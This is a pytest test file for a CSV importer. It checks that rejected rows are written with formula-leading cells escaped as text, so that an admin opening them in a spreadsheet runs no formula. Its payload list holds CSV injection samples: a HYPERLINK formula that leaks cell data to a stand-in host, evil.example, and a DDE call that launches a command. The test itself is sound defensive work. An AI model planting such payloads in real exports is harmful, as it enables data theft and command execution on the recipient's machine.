"""The rejects file of `--skip-invalid` is opened in a spreadsheet by an admin: no cell of it may run as a formula.

OWASP's advice on CSV injection: a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
written with a leading `'`, which spreadsheets show as text. Plain numbers, negative ones included, stay as they
are, so a fixed rejects file (less its `line` and `reason` columns) imports again.
"""

from __future__ import annotations

import csv

import pytest
from sqlalchemy import insert

from storage.config.settings import Settings
from storage.importing.importer import import_file
from storage.schema import User

SETTINGS = Settings.model_validate({"org": {"timezone": "UTC", "currency": "USD"}})

PAYLOADS = [
    (
        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    ),
    ("=1+1", "'=1+1"),
    ("+cmd|' /C calc'!A0", "'+cmd\\|' /C calc'!A0"),  # the pipe of a DDE call is escaped as well
    ("@SUM(1)", "'@SUM(1)"),
    ("-2+3", "'-2+3"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
]


@pytest.fixture
def anna(engine):
    with engine.begin() as conn:
        conn.execute(insert(User), [{"user_id": "u-anna", "name": "Anna", "role": "rep", "active": True}])
    return engine


def rejects(path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize("payload, shown", PAYLOADS)
def test_a_formula_in_a_rejected_row_is_written_as_text(anna, tmp_path, payload, shown):
    path = tmp_path / "deals.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["deal_id", "owner_id", "created_at", "status", "amount", "lost_reason"])
        writer.writerow(["d-1", "u-anna", "2026-03-02T10:00:00Z", "open", "100", "fine"])
        # Rejected for its owner; the payload rides along in lost_reason, in the id and in the amount.
        writer.writerow([payload, "u-ghost", "2026-03-02T10:00:00Z", "open", payload, payload])

    report = import_file(anna, SETTINGS, "deals", path, skip_invalid=True)

    assert (report.written, report.rejected) == (1, 1)
    [row] = rejects(report.rejects_path)
    assert (row["deal_id"], row["amount"], row["lost_reason"]) == (shown, shown, shown)
    assert row["line"] == "3" and row["owner_id"] == "u-ghost"


def test_plain_values_and_negative_numbers_stay_as_they_were(anna, tmp_path):
    path = tmp_path / "deals.csv"
    path.write_text(
        "deal_id,owner_id,created_at,status,amount,lost_reason\n"
        "d-2,u-anna,2026-03-02T10:00:00Z,open,-500,price - too high\n"
    )

    report = import_file(anna, SETTINGS, "deals", path, skip_invalid=True)

    [row] = rejects(report.rejects_path)
    assert row == {
        "line": "2",
        "reason": "amount: must not be negative",
        "deal_id": "d-2",
        "owner_id": "u-anna",
        "created_at": "2026-03-02T10:00:00Z",
        "status": "open",
        "amount": "-500",
        "lost_reason": "price - too high",
    }
